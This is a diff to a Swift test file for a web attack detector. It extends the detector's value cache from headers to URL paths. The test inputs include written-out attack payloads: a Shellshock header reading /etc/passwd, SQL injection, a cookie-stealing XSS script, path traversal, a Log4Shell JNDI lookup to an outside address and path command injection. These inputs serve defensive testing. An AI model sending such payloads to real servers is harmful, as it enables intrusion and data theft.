@@ -14,17 +14,19 @@ struct CleanValueCacheTests {
         analysis.hits.map { "\($0.type.rawValue) \($0.detector) \($0.point) \($0.fragment)" }
     }
 
-    // Values under common field names (`HeaderPointNames`) are the ones cached.
-    @Test("the hits are the same with and without a cache, for repeated clean and attacking header values")
+    // Values under common field names (`HeaderPointNames`) and path values are the ones cached.
+    @Test("the hits are the same with and without a cache, for repeated clean and attacking header and path values")
     func sameVerdicts() {
         let agents = ["Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", "sqlmap/1.7.2#stable (https://sqlmap.org)",
                       "okhttp/4.12.0", "() { :; }; /bin/bash -c 'cat /etc/passwd'"]
         let referers = ["https://shop.test/cart", "https://shop.test/search?q=1' UNION SELECT password FROM users--", "javascript:alert(1)"]
         let extras = ["en-US,en;q=0.9", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "${jndi:ldap://203.0.113.9/a}"]
+        let targets = ["/products/red-shoes?id=1", "/static/../../../etc/passwd", "/cart", "/api/v1/users/1;cat%20/etc/passwd",
+                       "/products/red-shoes", "/files/%2e%2e/%2e%2e/boot.ini", "/search/1%27%20OR%201=1--"]
         var exchanges: [Exchange] = []
         for round in 0..<3 {
             for (index, agent) in agents.enumerated() {
-                exchanges.append(exchange("/products?id=\(round)", headers: [
+                exchanges.append(exchange(targets[(index * 2 + round) % targets.count], headers: [
                     ("User-Agent", agent), ("Referer", referers[(index + round) % referers.count]),
                     ("X-Requested-With", extras[(index * 3 + round) % extras.count]), ("Accept-Language", "en-US,en;q=0.9"),
                 ]))
@@ -39,7 +41,7 @@ struct CleanValueCacheTests {
             #expect(signature(cached) == signature(plain))
             if plain.isAttack { attacks += 1 }
         }
-        #expect(attacks >= 9)
+        #expect(attacks >= 10)
         #expect(cache.hits > 0)
         #expect(cache.lookups > cache.hits)
     }
@@ -70,15 +72,22 @@ struct CleanValueCacheTests {
     func entriesCompareBytes() {
         let cache = CleanValueCache(capacity: 1)
         let stored = Array("Mozilla/5.0 (X11)".utf8)
-        cache.store(hash: 7, name: "header.user-agent", host: Array("shop.test".utf8), value: stored)
-        func found(_ name: String, _ host: String, _ value: String) -> Bool {
-            Array(value.utf8).withUnsafeBufferPointer { cache.contains(hash: 7, name: name, host: Array(host.utf8), value: $0) }
+        cache.store(hash: 7, name: "header.user-agent", index: -1, host: Array("shop.test".utf8), value: stored)
+        cache.store(hash: 8, name: "path", index: 1, host: Array("shop.test".utf8), value: stored)
+        func found(_ name: String, _ host: String, _ value: String, hash: UInt64 = 7, index: Int = -1) -> Bool {
+            Array(value.utf8).withUnsafeBufferPointer { cache.contains(hash: hash, name: name, index: index, host: Array(host.utf8), value: $0) }
         }
+        #expect(!found("header.user-agent", "shop.test", "Mozilla/5.0 (X11)"))  // the path entry took the only slot
+        cache.store(hash: 7, name: "header.user-agent", index: -1, host: Array("shop.test".utf8), value: stored)
         #expect(found("header.user-agent", "shop.test", "Mozilla/5.0 (X11)"))
         #expect(!found("header.user-agent", "shop.test", "Mozilla/5.0 (X1')"))
         #expect(!found("header.referer", "shop.test", "Mozilla/5.0 (X11)"))
         #expect(!found("header.user-agent", "shop.tesu", "Mozilla/5.0 (X11)"))
-        #expect(cache.hits == 1 && cache.lookups == 4)
+        #expect(!found("header.user-agent", "shop.test", "Mozilla/5.0 (X11)", index: 0))
+        cache.store(hash: 7, name: "path", index: 1, host: Array("shop.test".utf8), value: stored)
+        #expect(found("path", "shop.test", "Mozilla/5.0 (X11)", index: 1))
+        #expect(!found("path", "shop.test", "Mozilla/5.0 (X11)", index: 2))
+        #expect(cache.hits == 2 && cache.lookups == 8)
     }
 
     @Test("the cache holds at most its capacity and no value longer than its limit")
